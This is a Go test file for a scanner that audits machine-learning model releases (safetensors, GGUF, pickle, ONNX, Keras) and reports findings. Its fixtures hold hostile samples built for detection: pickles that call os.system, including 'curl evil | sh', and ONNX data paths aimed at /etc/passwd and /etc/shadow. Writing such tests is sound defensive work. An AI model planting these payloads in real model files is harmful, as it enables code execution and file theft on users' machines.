@@ -1,0 +1,219 @@
+package manifest
+
+import (
+	"bytes"
+	"context"
+	"encoding/json"
+	"errors"
+	"os"
+	"path/filepath"
+	"slices"
+	"strings"
+	"testing"
+
+	"github.com/modelvet/modelvet/finding"
+	"github.com/modelvet/modelvet/formats"
+	"github.com/modelvet/modelvet/formats/pickle"
+	"github.com/modelvet/modelvet/internal/testmodel"
+)
+
+// TestOpenHeaderOnlyCapture checks that describing a release keeps the
+// header facts of a truncated file next to the Problem.
+func TestOpenHeaderOnlyCapture(t *testing.T) {
+	dir := t.TempDir()
+	st := testmodel.Safetensors{Metadata: map[string]string{"format": "pt"}, Tensors: []testmodel.SafetensorsTensor{
+		{Name: "a", Dtype: "BF16", Shape: []uint64{4, 4}}, {Name: "b", Dtype: "F32", Shape: []uint64{3}},
+	}}
+	if err := os.WriteFile(filepath.Join(dir, "model.safetensors"), st.HeaderBytes(), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	rel, err := Dir(dir).Open(context.Background())
+	if err != nil {
+		t.Fatal(err)
+	}
+	f := rel.File("model.safetensors")
+	if f == nil || f.Safetensors == nil {
+		t.Fatalf("header facts dropped: %+v", f)
+	}
+	if f.Safetensors.Parameters != 19 || !f.Safetensors.Truncated {
+		t.Errorf("Parameters = %d, Truncated = %v; want 19, true", f.Safetensors.Parameters, f.Safetensors.Truncated)
+	}
+	if len(rel.Problems) != 1 || !errors.Is(rel.Problems[0].Err, formats.ErrTruncated) {
+		t.Fatalf("Problems = %+v, want one truncation problem", rel.Problems)
+	}
+	if p := rel.Problems[0]; p.Path != "model.safetensors" || p.Offset != int64(len(st.HeaderBytes())) {
+		t.Errorf("problem at %s offset %d", p.Path, p.Offset)
+	}
+	fs := rel.Findings()
+	if len(fs) != 1 || fs[0].Code != finding.FormatMalformed {
+		t.Errorf("Findings = %+v, want one format.malformed", fs)
+	}
+}
+
+// TestGGUFEvidence: evidence for a GGUF key cites the file, the key's byte
+// offset and its value, as license and provenance quote it.
+func TestGGUFEvidence(t *testing.T) {
+	dir := t.TempDir()
+	data := testmodel.GGUF{KV: []testmodel.KV{
+		{Key: "general.architecture", Value: testmodel.String("qwen2")},
+		{Key: "general.license", Value: testmodel.String("apache-2.0")},
+		{Key: "general.base_model.count", Value: testmodel.Uint32(1)},
+	}}.Bytes()
+	if err := os.WriteFile(filepath.Join(dir, "m.gguf"), data, 0o644); err != nil {
+		t.Fatal(err)
+	}
+	rel, err := Dir(dir).Open(context.Background())
+	if err != nil {
+		t.Fatal(err)
+	}
+	f := rel.File("m.gguf")
+	if f == nil || f.GGUF == nil {
+		t.Fatalf("m.gguf not read: %+v", rel.Problems)
+	}
+	if ev := f.GGUFEvidence("general.license"); ev.Path != "m.gguf" || ev.Offset != int64(bytes.Index(data, []byte("general.license"))-8) || ev.Value != "apache-2.0" {
+		t.Errorf("license evidence = %+v", ev)
+	}
+	if ev := f.GGUFEvidence("general.base_model.count"); ev.Value != "1" {
+		t.Errorf("count evidence = %+v", ev)
+	}
+	if ev := f.GGUFEvidence("general.name"); ev != (finding.Evidence{Path: "m.gguf", Field: "general.name"}) {
+		t.Errorf("evidence of an absent key = %+v", ev)
+	}
+}
+
+// TestPickleFindings: a state dict of tensors is a format.pickle finding
+// alone, at every protocol; a pickle importing a callable outside the
+// allow-list, however it hides the import, is a format.code-execution
+// finding too, naming the global.
+func TestPickleFindings(t *testing.T) {
+	for proto := 0; proto <= 5; proto++ {
+		data := testmodel.TorchStateDict(proto, testmodel.FixtureTensors, nil)
+		info, err := pickle.Read(bytes.NewReader(data), int64(len(data)))
+		if err != nil {
+			t.Fatal(err)
+		}
+		if fs := pickleFindings("model.pkl", info); len(fs) != 1 || fs[0].Code != finding.FormatPickle {
+			t.Errorf("protocol %d: findings = %+v, want only format.pickle", proto, fs)
+		}
+	}
+	ways := map[testmodel.Import]string{
+		testmodel.ViaGlobal: "os.system", testmodel.ViaStackGlobal: "os.system", testmodel.ViaInst: "os.system",
+		testmodel.ViaMemo: "os.system", testmodel.ViaMemoShadow: "os.system", testmodel.ViaHidden: "unknown.system",
+	}
+	for proto := 0; proto <= 5; proto++ {
+		for how, global := range ways {
+			data := testmodel.MaliciousPickle(proto, how, "os", "system", "touch /tmp/pwned")
+			info, err := pickle.Read(bytes.NewReader(data), int64(len(data)))
+			if err != nil {
+				t.Fatal(err)
+			}
+			fs := pickleFindings("evil.pkl", info)
+			if len(fs) != 2 || fs[1].Code != finding.FormatCodeExecution || !strings.Contains(fs[1].Message, global) {
+				t.Errorf("protocol %d, way %d: findings = %+v", proto, how, fs)
+			}
+		}
+	}
+}
+
+// TestPickleFindingsEndToEnd audits a directory holding a hostile
+// checkpoint through Parse and Open.
+func TestPickleFindingsEndToEnd(t *testing.T) {
+	dir := t.TempDir()
+	evil := testmodel.TorchZipWith("archive", testmodel.TorchStateDict(2, testmodel.FixtureTensors, func(p *testmodel.Pickler) {
+		p.Call("os", "system", "curl evil | sh")
+	}), testmodel.FixtureTensors, nil)
+	os.WriteFile(filepath.Join(dir, "pytorch_model.bin"), evil, 0o644)
+	os.WriteFile(filepath.Join(dir, "clean.pt"), testmodel.TorchZip("clean", 2, testmodel.FixtureTensors), 0o644)
+	os.WriteFile(filepath.Join(dir, "optimizer.pkl"), testmodel.MaliciousPickle(0, testmodel.ViaInst, "subprocess", "call", "id"), 0o644)
+	src, err := Parse(dir)
+	if err != nil {
+		t.Fatal(err)
+	}
+	rel, err := src.Open(t.Context())
+	if err != nil {
+		t.Fatal(err)
+	}
+	codes := map[string][]finding.Code{}
+	for _, f := range rel.Findings() {
+		codes[f.Subject] = append(codes[f.Subject], f.Code)
+	}
+	want := map[string][]finding.Code{
+		"clean.pt":          {finding.FormatPickle},
+		"optimizer.pkl":     {finding.FormatCodeExecution, finding.FormatPickle},
+		"pytorch_model.bin": {finding.FormatCodeExecution, finding.FormatPickle},
+	}
+	for k, v := range want {
+		got := codes[k]
+		slices.Sort(got)
+		if !slices.Equal(got, v) {
+			t.Errorf("%s: codes %v, want %v", k, got, v)
+		}
+	}
+	if f := rel.File("optimizer.pkl"); f == nil || f.Format != FormatPickle || f.Pickle == nil || f.Pickle.Protocol != 0 {
+		t.Errorf("optimizer.pkl = %+v", f)
+	}
+	if f := rel.File("pytorch_model.bin"); f == nil || f.Format != FormatPyTorch {
+		t.Errorf("pytorch_model.bin = %+v", f)
+	}
+}
+
+// TestONNXExternalDataFindings describes releases whose ONNX model keeps
+// tensors in other files: present, missing, or outside the release.
+func TestONNXExternalDataFindings(t *testing.T) {
+	dir := t.TempDir()
+	os.MkdirAll(filepath.Join(dir, "onnx"), 0o755)
+	model := testmodel.ONNXModel(testmodel.ONNXTensor("a", nil, "model.onnx_data"), testmodel.ONNXTensor("b", nil, "missing.bin"), testmodel.ONNXTensor("c", nil, "../../etc/passwd"), testmodel.ONNXTensor("d", nil, "/etc/shadow"), testmodel.ONNXTensor("e", nil, `C:\Windows\win.ini`), testmodel.ONNXTensor("f", nil, "data:v2.bin"))
+	os.WriteFile(filepath.Join(dir, "onnx", "model.onnx"), model, 0o644)
+	os.WriteFile(filepath.Join(dir, "onnx", "model.onnx_data"), make([]byte, 64), 0o644)
+	rel := openSource(t, Dir(dir))
+	if f := rel.File("onnx/model.onnx"); f == nil || f.ONNX == nil || len(f.ONNX.ExternalData) != 6 {
+		t.Fatalf("onnx = %+v", f)
+	}
+	var got []string
+	for _, f := range rel.Findings() {
+		if f.Code == finding.IntegrityMissing || f.Code == finding.FormatMalformed {
+			got = append(got, string(f.Code)+" "+f.Subject+" "+f.Evidence[0].Value)
+		}
+	}
+	slices.Sort(got)
+	want := []string{
+		"format.malformed onnx/model.onnx ../../etc/passwd",
+		"format.malformed onnx/model.onnx /etc/shadow",
+		`format.malformed onnx/model.onnx C:\Windows\win.ini`,
+		"integrity.missing onnx/data:v2.bin data:v2.bin",
+		"integrity.missing onnx/missing.bin missing.bin",
+	}
+	if !slices.Equal(got, want) {
+		t.Errorf("findings:\n%s\nwant:\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
+	}
+}
+
+// TestKerasFindings describes releases holding Keras files and checks the
+// code-execution findings.
+func TestKerasFindings(t *testing.T) {
+	dir := t.TempDir()
+	h5, err := os.ReadFile(filepath.Join("..", "formats", "keras", "testdata", "lambda.h5"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	os.WriteFile(filepath.Join(dir, "model.h5"), h5, 0o644)
+	os.WriteFile(filepath.Join(dir, "model.keras"), testmodel.KerasArchive(testmodel.Keras3Config), 0o644)
+	rel := openSource(t, Dir(dir))
+	got := map[string]finding.Finding{}
+	for _, f := range rel.Findings() {
+		if f.Code == finding.FormatCodeExecution {
+			got[f.Subject] = f
+		}
+	}
+	if f, ok := got["model.h5"]; !ok || f.Confidence != finding.Inferred || !strings.Contains(f.Message, "2 Lambda layers (scale, named_fn)") || !strings.Contains(f.Message, "1 of them carry serialised bytecode") {
+		t.Errorf("model.h5: %+v", f)
+	}
+	if f, ok := got["model.keras"]; !ok || f.Confidence != finding.Verified || len(f.Evidence) != 2 || f.Evidence[0].Field != "config.layers.1" {
+		t.Errorf("model.keras: %+v", f)
+	}
+	if k := rel.File("model.keras").Keras; k == nil {
+		t.Error("model.keras: no Keras facts")
+	} else if b, _ := json.Marshal(k); !strings.Contains(string(b), `"name":"scale","bytecode":true`) {
+		t.Errorf("model.keras JSON = %s", b)
+	}
+}
